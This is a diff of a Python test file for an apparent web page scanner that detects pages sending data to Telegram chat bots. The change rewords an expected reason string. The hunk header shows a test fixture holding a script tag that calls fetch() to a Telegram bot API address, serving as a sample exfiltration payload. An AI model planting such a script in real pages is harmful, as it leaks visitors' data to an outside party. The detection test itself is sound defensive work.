@@ -97,7 +97,7 @@ BOT = "<script>fetch('https://api.telegram.org/bot5551234567:AAE4kd93kLmNoPqRsTu
 def test_a_chat_bot_weighs_less_where_nothing_can_be_typed(typed: str, weight: float) -> None:
     found = site(PLAIN + BOT + typed)
     assert nats(found, "http-telegram-exfil") == weight
-    assert reasons(found)["http-telegram-exfil"] == "the page contains the address of a chat bot to which it can send data (telegram-bot)"
+    assert reasons(found)["http-telegram-exfil"] == "the page contains the address of a chat bot to which it can send data (a Telegram bot)"
 
 
 def test_a_policy_that_sets_forged_mail_aside_is_not_said_to_refuse_it() -> None:
